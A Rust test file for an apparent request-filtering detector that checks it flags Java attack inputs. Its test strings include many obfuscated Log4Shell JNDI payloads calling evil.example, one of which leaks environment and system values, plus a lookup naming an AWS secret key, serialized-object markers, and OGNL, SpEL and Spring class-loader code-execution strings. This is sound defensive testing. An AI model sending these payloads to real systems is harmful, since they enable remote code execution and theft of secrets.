use super::*;
use crate::normalize::{normalize, Plus};

fn rules(s: &str) -> Vec<&'static str> {
    let java = Java::new().unwrap();
    let mut hits = Vec::new();
    java.detect(&normalize(s.as_bytes(), Plus::Space), &mut hits);
    hits.iter().map(|h| h.rule).collect()
}

#[test]
fn log4shell_is_found_through_its_spellings() {
    for a in [
        "${jndi:ldap://evil.example/a}",
        "User agent ${jndi:ldap://evil.example/a} tail",
        "${JNDI:rmi://evil.example:1099/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${upper:j}${upper:n}${lower:d}i:dns://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}",
        "${${date:'j'}${date:'n'}di:ldap://evil.example/a}",
        "${${::-${::-j}}ndi:ldap://evil.example/a}",
        "${ jndi:ldap://evil.example/a}",
        "${jndi:ldap://${env:USER}.${sys:java.version}.evil.example/a}",
        "${:1337:-x$}{jndi:ldap://evil.example/a}",
        // Log4j takes the default of any name it cannot resolve.
        "${${x:-j}ndi:ldap://evil.example/a}",
        "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://e/a}",
        // Java's case mapping: `ı` upper-cases to `I`.
        "${${::-j}${::-n}${::-d}${upper:%C4%B1}:ldap://evil.example/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "&#36;{jndi:ldap://evil.example/a}",
        // Cut before it closes.
        "${jndi:ldap://evil.example/a",
    ] {
        assert!(rules(a).contains(&RULE_JNDI), "{a}: {:?}", rules(a));
    }
}

#[test]
fn other_log4j_lookups_are_an_error_not_a_block() {
    for a in [
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${sys:user.home}",
        "${::-x}",
        "${lower:A}",
    ] {
        let r = rules(a);
        assert!(r.contains(&RULE_LOOKUP), "{a}: {r:?}");
        assert!(!r.contains(&RULE_JNDI), "{a}: {r:?}");
    }
}

#[test]
fn templates_and_prose_are_not_lookups() {
    for b in [
        "Hello ${name}, your order ${order.id} shipped",
        "${price} USD",
        "{\"a\":{\"b\":1}}",
        "jndi is the Java Naming and Directory Interface",
        "see ${docs} about jndi: lookups",
        "$$$ {{x}} ${}",
        "a}b}c${",
        "Java 21 on the JVM; Spring Boot 3",
        "the runtime took 3 s",
        "processbuilder",
    ] {
        assert!(rules(b).is_empty(), "{b}: {:?}", rules(b));
    }
}

#[test]
fn deep_nesting_is_bounded_and_linear() {
    let deep = "${::-".repeat(10_000) + "j" + &"}".repeat(10_000) + "ndi:x}";
    // Past the depth cap the value is text; it must end, and not panic.
    let _ = rules(&deep);
    let closers = "}".repeat(50_000) + &"${".repeat(50_000);
    assert!(!rules(&closers).contains(&RULE_JNDI));
    // Past the cap the value is flagged for its nesting alone.
    let deeper = "${::-".repeat(MAX_DEPTH) + "${jndi:ldap://e.example/a}" + &"}".repeat(MAX_DEPTH);
    assert!(
        rules(&deeper).contains(&RULE_NESTING),
        "{:?}",
        rules(&deeper)
    );
    // Within the cap the nesting resolves.
    let nested = "${::-".repeat(MAX_DEPTH - 1) + "j" + &"}".repeat(MAX_DEPTH - 1);
    assert!(rules(&format!("${{{nested}ndi:ldap://x/a}}")).contains(&RULE_JNDI));
}

#[test]
fn serialized_objects_in_three_encodings() {
    // `AC ED 00 05 73 72 00 11 java.util.HashMap...`
    let mut raw = vec![0xac, 0xed, 0x00, 0x05, 0x73, 0x72, 0x00, 0x11];
    raw.extend_from_slice(b"java.util.HashMap");
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &raw);
    assert!(b64.starts_with("rO0AB"), "{b64}");
    let hex: String = raw.iter().map(|b| format!("{b:02x}")).collect();
    for v in [b64.as_str(), hex.as_str(), &hex.to_uppercase()] {
        assert_eq!(rules(v), [RULE_SERIALIZED], "{v}");
    }
    let java = Java::new().unwrap();
    let mut hits = Vec::new();
    java.detect(&normalize(&raw, Plus::Keep), &mut hits);
    assert_eq!(
        hits.iter().map(|h| h.rule).collect::<Vec<_>>(),
        [RULE_SERIALIZED]
    );
    // Too short to hold a class, or not base64 after the marker.
    for b in ["rO0ABQ", "rO0AB is my user name", "aced0005", "ro0abxyz!"] {
        assert!(rules(b).is_empty(), "{b}: {:?}", rules(b));
    }
    assert!(serialized_prefix(b64.as_bytes()) && serialized_prefix(hex.as_bytes()));
}

#[test]
fn code_execution_shapes_block_and_class_names_only_detect() {
    for a in [
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "#context['xwork.MethodAccessor.denyMethodExecution']=false",
        "T(java.lang.Runtime).getRuntime().exec('id')",
        "#{new java.lang.ProcessBuilder({'id'}).start()}",
        "${Class.forName('java.lang.Runtime')}",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "''.getClass().forName('javax.script.ScriptEngineManager')",
        "org.apache.commons.collections.functors.InvokerTransformer",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
        "com.sun.rowset.JdbcRowSetImpl",
        "org.springframework.context.support.ClassPathXmlApplicationContext",
    ] {
        let r = rules(a);
        assert!(r.contains(&RULE_EXEC), "{a}: {r:?}");
    }
    for a in [
        "java.lang.Runtime",
        "uses java.lang.System",
        "com.opensymphony.xwork2.ActionContext",
        // Java code people write about: detected, not blocked.
        "new ProcessBuilder(cmd).start()",
        "Class.forName(\"com.mysql.cj.jdbc.Driver\")",
    ] {
        assert_eq!(rules(a), [RULE_CLASS], "{a}");
    }
    for b in [
        "myjava.lang.runtimeX",
        "Runtime environment",
        "templatesimplified",
        "the class loader failed",
        "getruntime",
        "Runtime.getRuntime().availableProcessors()",
    ] {
        assert!(rules(b).is_empty(), "{b}: {:?}", rules(b));
    }
}
